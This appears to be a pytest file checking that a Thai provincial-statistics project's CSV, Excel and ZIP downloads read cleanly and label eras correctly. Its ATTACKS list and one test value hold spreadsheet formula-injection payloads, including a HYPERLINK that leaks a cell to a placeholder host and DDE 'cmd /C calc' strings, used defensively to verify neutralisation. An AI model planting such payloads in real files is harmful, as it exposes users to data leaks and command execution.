"""Downloads open cleanly in the tools people have: pandas and csv.DictReader with their defaults, openpyxl,
headless LibreOffice; no cell is evaluated as a formula or turned into a date; years say their era."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import subprocess
import zipfile

import openpyxl
import pandas as pd
import pytest

from provdata.basics.sheets import safe_cell, unsafe_cell
from provdata.exchange import chain_edits
from provdata.strategy import statchart
from provdata.views import figures, profile
from provdata.views.exports import About, plain_table, to_csv, to_csv_zip, to_excel
from provdata.warehouse import queries
from provdata.warehouse.db import Warehouse
from provdata.web import api
from tests.conftest import ROOT

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def wh(real_warehouse) -> Warehouse:
    return Warehouse(real_warehouse)


@pytest.fixture(scope="module")
def about() -> About:
    return About(title="test", filters={"province": "60"}, sources=["a, b (CC0-1.0; x/y: z)"], build_id="TB")


def profile_table(wh, lang: str, era: str) -> pd.DataFrame:
    indicators = queries.indicators(wh)
    headlines = queries.headlines(wh, "60", tuple(indicators.id))
    return profile.indicator_table(
        headlines, indicators, lang, era, queries.calendar(wh, dt.date(2026, 12, 6))
    )


def plan_table(wh, lang: str, era: str) -> pd.DataFrame:
    chain = queries.chain(wh, "60")
    ids = tuple(sorted(set(chain.indicator_id.dropna())))
    years = queries.years_present(wh, tuple(queries.chain_provinces(wh)), ids)
    calendar = queries.calendar(wh, dt.date(2026, 12, 6))
    chained = statchart.with_readiness(chain, years, "60", calendar)
    return statchart.development_plan(chained, lang, era, calendar, queries.plan_status(wh, "60"))


def assert_no_formula(xlsx: bytes) -> int:
    """Every cell of every sheet is a value, no text starts with what a spreadsheet evaluates; text cells counted."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts += 1
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.coordinate
    return texts


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+66 2 123", "'+66 2 123"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("–", "–"),
        ("นครสวรรค์", "นครสวรรค์"),
        (-3.5, -3.5),
        (7, 7),
        (None, None),
    ],
)
def test_safe_cell_prefixes_only_text_a_spreadsheet_would_evaluate(given, written):
    assert safe_cell(given) == written
    assert unsafe_cell(written) == given


def test_a_thai_page_csv_is_one_plain_table_every_reader_agrees_on(wh, about):
    table = plain_table(profile_table(wh, "th", "be"), "th", "be")
    data = to_csv(table, about)
    assert data.startswith("\ufeffด้าน,ตัวชี้วัด,หน่วย,year,ปี พ.ศ.,".encode())
    text = data.decode("utf-8-sig")
    assert not any(line.startswith("#") for line in text.splitlines())
    back = pd.read_csv(io.BytesIO(data))  # pandas defaults
    assert list(back.columns) == [
        "ด้าน", "ตัวชี้วัด", "หน่วย", "year", "ปี พ.ศ.", "สถานะตามปฏิทินการเผยแพร่", "ค่า (ตามที่เผยแพร่)",
        "เปลี่ยนแปลงจากปีก่อน (%)", "อันดับใน 77", "อันดับใน 77: จากทั้งหมด", "อันดับในจังหวัดนำร่อง",
        "อันดับในจังหวัดนำร่อง: จากทั้งหมด", "ที่มา",
    ]  # fmt: skip
    rice = back[back["ตัวชี้วัด"] == "ครัวเรือนผู้ปลูกข้าวนาปี"].iloc[0]
    assert rice["สถานะตามปฏิทินการเผยแพร่"] == "ไม่ทราบกำหนดเผยแพร่"  # OAE: publication dates not known
    pop = back[back["ตัวชี้วัด"] == "ประชากรตามทะเบียนราษฎร"].iloc[0]
    assert (pop["year"], pop["สถานะตามปฏิทินการเผยแพร่"]) == (
        2024,
        "ไม่เป็นปัจจุบัน: เกินกำหนดตั้งแต่ 1 ก.พ. 2569 (ขาดปี 2568)",
    )
    assert (rice["year"], rice["ปี พ.ศ."], rice["ค่า (ตามที่เผยแพร่)"]) == (2015, 2558, 78076.0)
    assert rice["เปลี่ยนแปลงจากปีก่อน (%)"] == -0.2
    assert (rice["อันดับใน 77"], rice["อันดับใน 77: จากทั้งหมด"]) == (16, 77)
    assert (rice["อันดับในจังหวัดนำร่อง"], rice["อันดับในจังหวัดนำร่อง: จากทั้งหมด"]) == (1, 10)
    assert (back["year"] + 543 == back["ปี พ.ศ."]).all() and back["year"].max() < 2100
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(back) and rows[0]["ตัวชี้วัด"] == back["ตัวชี้วัด"].iloc[0]
    assert set(rows[0]) == set(back.columns)
    # the metadata travels beside the table
    with zipfile.ZipFile(io.BytesIO(to_csv_zip(table, about))) as zf:
        files = {n: zf.read(n) for n in zf.namelist()}
    assert set(files) == {"data.csv", "metadata.json", "README.md"} and files["data.csv"] == data
    meta = json.loads(files["metadata.json"])
    assert meta["warehouse_build"] == "TB" and meta["sources"] == ["a, b (CC0-1.0; x/y: z)"]
    assert meta["filters"] == {"province": "60"}
    book = pd.read_excel(io.BytesIO(to_excel(table, about)), sheet_name=None, engine="openpyxl")
    assert (
        list(book["data"].columns) == list(back.columns)
        and book["data"]["year"].tolist() == back.year.tolist()
    )
    assert dict(zip(book["about"]["field"], book["about"]["value"], strict=True))["warehouse build"] == "TB"


def test_an_english_page_has_gregorian_years_only_whatever_the_era_shown(wh):
    table = plain_table(profile_table(wh, "en", "be"), "en", "be")
    assert "year" in table.columns and not any("BE" in c or "พ.ศ." in c for c in table.columns)
    assert table["year"].max() < 2100 and table["year"].min() > 1990


def test_a_header_that_is_a_year_names_both_eras(wh):
    series = queries.series(wh, ("gpp_current_mb",), ("60", "62"))
    names = {"60": "นครสวรรค์", "62": "กำแพงเพชร"}
    growth = figures.growth_table(series, 2014, 2020, names, "th", "be")
    assert list(growth.columns)[:3] == ["พื้นที่", "2557", "2563"]
    plain = plain_table(growth, "th", "be")
    assert list(plain.columns)[:3] == ["พื้นที่", "ค.ศ. 2014 (พ.ศ. 2557)", "ค.ศ. 2020 (พ.ศ. 2563)"]
    assert list(plain_table(figures.growth_table(series, 2014, 2020, names, "en", "ce"), "en", "ce").columns)[
        1:3
    ] == ["2014 (CE; 2557 BE)", "2020 (CE; 2563 BE)"]


def test_a_formula_in_a_progress_note_stays_text_in_the_plan_csv_excel_and_zip(wh, about):
    # 8 lines since readiness is judged on today's date (was 5 against the warehouse's latest year), 10 since the
    # tourism series run to 2023 by a monthly calendar (overdue since 1 May 2025); the attack notes go on the first 5
    plan = plan_table(wh, "en", "ce")
    assert len(plan) == 10
    plan = plan.head(5).copy()
    plan["Progress note"] = ATTACKS[: len(plan)]
    table = plain_table(plan, "en", "ce")
    assert table["target_year"].tolist() == plan["Target year"].astype(int).tolist()
    data = to_csv(table, about)
    back = pd.read_csv(io.BytesIO(data), keep_default_na=False)
    assert back["Progress note"].tolist() == ["'" + a for a in ATTACKS[:5]]
    assert not any(line.startswith(("=", "+", "-", "@")) for line in data.decode("utf-8-sig").split(","))
    xlsx = to_excel(table, about)
    assert assert_no_formula(xlsx) > 50
    notes = pd.read_excel(io.BytesIO(xlsx), sheet_name="data", keep_default_na=False, engine="openpyxl")[
        "Progress note"
    ]
    assert notes.tolist() == ["'" + a for a in ATTACKS[:5]]
    # the licence of a source with commas and "=" in it: inside the about sheet, text
    bad = About(title="=x", filters={"=f": "-1"}, sources=['=cmd|" /C calc"!A0, x, y'], build_id="@b")
    assert assert_no_formula(to_excel(table, bad)) > 50
    meta = json.loads(zipfile.ZipFile(io.BytesIO(to_csv_zip(table, bad))).read("metadata.json"))
    assert meta["sources"] == ['=cmd|" /C calc"!A0, x, y']  # JSON is not evaluated: kept as written


def test_the_chain_workbook_keeps_a_formula_as_text_and_imports_it_back_as_typed(wh):
    frames = chain_edits.province_frames(ROOT / "data" / "strategy", "60")
    frames["issues"].loc[0, frames["issues"].columns[-1]] = ATTACKS[0]
    xlsx = chain_edits.to_excel(frames, "60")
    assert assert_no_formula(xlsx) > 100
    back = chain_edits.from_excel(xlsx)
    assert back["issues"].iloc[0, -1] == ATTACKS[0]


def test_the_api_csv_neutralises_a_note_starting_with_a_formula():
    frame = pd.DataFrame({"id": [1, 2], "note": ["=1+1", "ok"], "license": ["@x, y", "CC0-1.0"]})
    response = api._table(frame, "csv", {"build_id": "TB"})
    assert response.body.decode() == "id,note,license\n1,'=1+1,\"'@x, y\"\n2,ok,CC0-1.0\n"


def libreoffice_xlsx(csv_path, out_dir) -> openpyxl.Workbook:
    """Convert a CSV as LibreOffice Calc imports it in an en-US locale (dates as M/D), UTF-8."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice Calc is needed (deploy/system-packages.sh test: libreoffice-calc-nogui)"
    subprocess.run(
        [soffice, f"-env:UserInstallation=file://{out_dir}/lo-profile", "--headless",
         "--infilter=CSV:44,34,76,1,,1033,false,true", "--convert-to", "xlsx", "--outdir", str(out_dir),
         str(csv_path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return openpyxl.load_workbook(out_dir / (csv_path.stem + ".xlsx"))


@pytest.mark.slow
def test_libreoffice_reads_the_thai_and_turns_no_cell_into_a_date(wh, about, tmp_path):
    table = plain_table(profile_table(wh, "th", "be"), "th", "be")
    path = tmp_path / "profile-60.csv"
    path.write_bytes(to_csv(table, about))
    sheet = libreoffice_xlsx(path, tmp_path).active
    rows = list(sheet.iter_rows(values_only=False))
    assert [c.value for c in rows[0]] == list(table.columns)
    assert len(rows) == len(table) + 1
    dates = [c.coordinate for row in rows for c in row if c.is_date]
    assert dates == []
    by_name = {row[1].value: row for row in rows[1:]}
    rice = by_name["ครัวเรือนผู้ปลูกข้าวนาปี"]
    assert [c.value for c in rice[3:12]] == [2015, 2558, "ไม่ทราบกำหนดเผยแพร่", 78076, -0.2, 16, 77, 1, 10]
